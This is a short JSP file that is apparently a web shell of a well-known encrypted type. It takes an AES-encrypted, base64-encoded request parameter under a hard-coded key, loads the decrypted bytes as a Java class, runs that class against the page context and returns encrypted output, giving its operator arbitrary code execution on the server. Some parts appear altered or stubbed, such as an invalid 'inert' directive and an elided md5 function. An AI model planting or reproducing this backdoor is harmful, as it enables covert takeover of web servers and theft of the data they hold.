<%@ page inert %>
<%! String xc="0000000000000000"; String pass="pass"; String md5=md5(pass+xc);
class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }
public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }}
public static String md5(String s) { /* elided */ return s; }
public static byte[] base64Decode(String bs) throws Exception { return java.util.Base64.getDecoder().decode(bs); }
%><%
try{
    byte[] data=base64Decode(request.getParameter(pass));
    data=x(data, false);
    if (session.getAttribute("payload")==null){
        session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));
    }else{
        request.setAttribute("parameters",data);
        java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();
        Object f=((Class)session.getAttribute("payload")).newInstance();
        f.equals(arrOut);
        f.equals(pageContext);
        response.getWriter().write(md5.substring(0,16));
        f.toString();
        response.getWriter().write(java.util.Base64.getEncoder().encodeToString(x(arrOut.toByteArray(), true)));
        response.getWriter().write(md5.substring(16));
    }
}catch (Exception e){}
%>
